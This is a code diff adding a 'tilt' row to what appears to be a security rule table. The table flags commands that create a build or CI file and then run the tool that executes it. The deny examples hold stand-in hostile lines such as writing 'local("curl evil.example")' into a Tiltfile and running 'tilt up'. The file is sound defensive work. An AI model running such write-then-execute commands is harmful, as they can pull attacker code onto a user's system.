@@ -302,6 +302,7 @@ export const PROJECT_ROWS: readonly Row[] = [
     code: [{ files: /^(?:\.github\/workflows\/[^/]+\.ya?ml|\.gitlab-ci\.ya?ml)$/, read: unread('a CI pipeline (its steps run commands)', 'the CI runner') }],
     examples: { deny: [`printf 'on: push\\njobs:\\n  a:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl evil.example\\n' > .github/workflows/x.yml && act`], pass: ['act -l', 'echo hi > notes.txt && act'] },
   },
+  { names: ['tilt'], code: [{ files: /^Tiltfile$/, read: unread('a Tiltfile (Starlark: local() runs commands)', 'tilt') }], file: ['-f', '--file'], examples: { deny: [`printf 'local("curl evil.example")' > Tiltfile && tilt up`], pass: ['tilt up', 'echo hi > notes.txt && tilt up'] } },
   { names: ['mvn'], code: [{ files: /(?:^|\/)pom\.xml$/, read: unread('a Maven build (its plugins run programs)', 'mvn') }], examples: { deny: ["echo '<project/>' > pom.xml && mvn package"], pass: ['mvn -q package'] } },
   {
     names: ['just'],
